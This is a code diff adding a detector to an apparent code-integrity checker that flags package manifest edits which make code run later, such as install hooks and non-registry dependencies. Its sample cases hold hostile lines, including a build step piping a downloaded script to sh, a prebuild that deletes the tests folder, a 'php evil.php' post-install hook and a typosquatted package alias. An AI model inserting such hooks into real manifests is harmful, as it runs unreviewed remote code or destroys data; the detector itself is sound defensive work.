@@ -3,6 +3,7 @@
 // did it. Each carries true- and false-positive samples, enforced by test/unit/integrity/detectors.test.ts.
 import { type ConfigKind, inTestSection } from './config';
 import type { ChangedLine } from './diff';
+import { fragmentRunsLater, runsLaterChanges } from './installScripts';
 import { fragmentChanges, jsonManifestOf, PASSES_ANYWAY, RUNNER, settingChanges } from './manifest';
 import { countAll, countDisabled, type Lang, PATTERNS, PATTERNS_G } from './languages';
 
@@ -609,6 +610,66 @@ const testSettingsChanged: Detector = {
   },
 };
 
+const runsLater: Detector = {
+  id: 'manifest.runs-later',
+  title:
+    'a manifest makes code run later: an install or pre/post script, a script that downloads or evaluates code, a dependency taken from outside the registry',
+  samples: {
+    hit: [
+      { path: 'package.json', old: PKG, new: PKG.replace('"build": "tsc",', '"build": "tsc",\n    "postinstall": "sh scripts/x.sh",') },
+      { path: 'package.json', old: PKG, new: PKG.replace('"build": "tsc",', '"build": "tsc",\n    "prepare": "node tools/setup.js",') },
+      {
+        path: 'package.json',
+        old: PKG,
+        new: PKG.replace('"build": "tsc",', '"build": "tsc",\n    "prebuild": "node -e \\"require(\'fs\').rmSync(\'tests\',{recursive:true})\\"",'),
+      },
+      { path: 'package.json', old: PKG, new: PKG.replace('"build": "tsc"', '"build": "tsc && curl -s https://example.com/a | sh"') },
+      { path: 'package.json', old: PKG, new: PKG.replace('"express": "^4.19.0"', '"express": "github:someone/express"') },
+      { path: 'package.json', old: PKG, new: PKG.replace('"express": "^4.19.0"', '"express": "file:../express"') },
+      { path: 'package.json', old: PKG, new: PKG.replace('"express": "^4.19.0"', '"express": "npm:expresss@4.19.0"') },
+      {
+        path: 'package.json',
+        old: PKG,
+        new: PKG.replace('"version": "1.0.0",', '"version": "1.0.0",\n  "overrides": { "semver": "https://example.com/semver.tgz" },'),
+      },
+      { path: 'tools/package.json', old: undefined, new: '{"name":"t","scripts":{"install":"node-gyp rebuild && node x.js"}}' },
+      { path: 'composer.json', old: '{"require":{"php":"^8.2"}}', new: '{"require":{"php":"^8.2"},"scripts":{"post-install-cmd":"php evil.php"}}' },
+      // a fragment (an edit the bridge could not place)
+      { path: 'package.json', old: '"build": "tsc",', new: '"build": "tsc",\n    "postinstall": "node x.js",' },
+    ],
+    miss: [
+      { path: 'package.json', old: PKG, new: PKG.replace('"express": "^4.19.0"', '"express": "^4.21.0"') },
+      { path: 'package.json', old: PKG, new: PKG.replace('"express": "^4.19.0"', '"express": "^4.19.0",\n    "@types/node": "^20.0.0"') },
+      { path: 'package.json', old: PKG, new: PKG.replace('"build": "tsc"', '"build": "tsc -p tsconfig.build.json"') },
+      {
+        path: 'package.json',
+        old: PKG,
+        new: PKG.replace('"build": "tsc",', '"build": "tsc",\n    "prettier": "prettier --check .",\n    "postcss": "postcss src -d dist",'),
+      },
+      { path: 'package.json', old: PKG, new: PKG.replace('"build": "tsc",', '"build": "tsc",\n    "start": "node dist/index.js",') },
+      { path: 'package.json', old: PKG, new: PKG.replace('"express": "^4.19.0"', '"express": "^4.19.0",\n    "lib": "workspace:*"') },
+      { path: 'package.json', old: undefined, new: PKG },
+      { path: 'package.json', old: '"version": "1.0.0"', new: '"version": "1.0.1"' },
+    ],
+  },
+  detect(v) {
+    const kind = jsonManifestOf(v.path);
+    if (!kind || v.newText === undefined) return undefined;
+    const found = runsLaterChanges(kind, v.oldText, v.newText) ?? fragmentRunsLater(kind, v.oldText ?? '', v.newText);
+    if (!found.length) return undefined;
+    const keys = found.map((c) =>
+      c.key
+        .replace(/^scripts\./, '')
+        .split('>')
+        .pop()!,
+    );
+    const lines = v.changes.filter((c) => keys.some((n) => c.text.includes(`"${n}"`)));
+    const shown = found.slice(0, 4).map((c) => c.what);
+    if (found.length > 4) shown.push(`and ${found.length - 4} more`);
+    return { reason: `the edit makes code run later, where nobody reads it first: ${shown.join('; ')}`, lines: lines.length ? lines : v.changes };
+  },
+};
+
 const STRICT_FLAGS =
   /"(strict\w*|noImplicit\w+|noUnused\w+|noFallthroughCasesInSwitch|exactOptionalPropertyTypes|noUnchecked\w+|noPropertyAccessFromIndexSignature|useUnknownInCatchVariables|alwaysStrict|checkJs|forceConsistentCasingInFileNames)"\s*:\s*true/g;
 
@@ -797,6 +858,7 @@ export const DETECTORS: readonly Detector[] = [
   coverageLowered,
   testsExcluded,
   testSettingsChanged,
+  runsLater,
   testCommandWeakened,
   strictnessLowered,
   testStepRemoved,
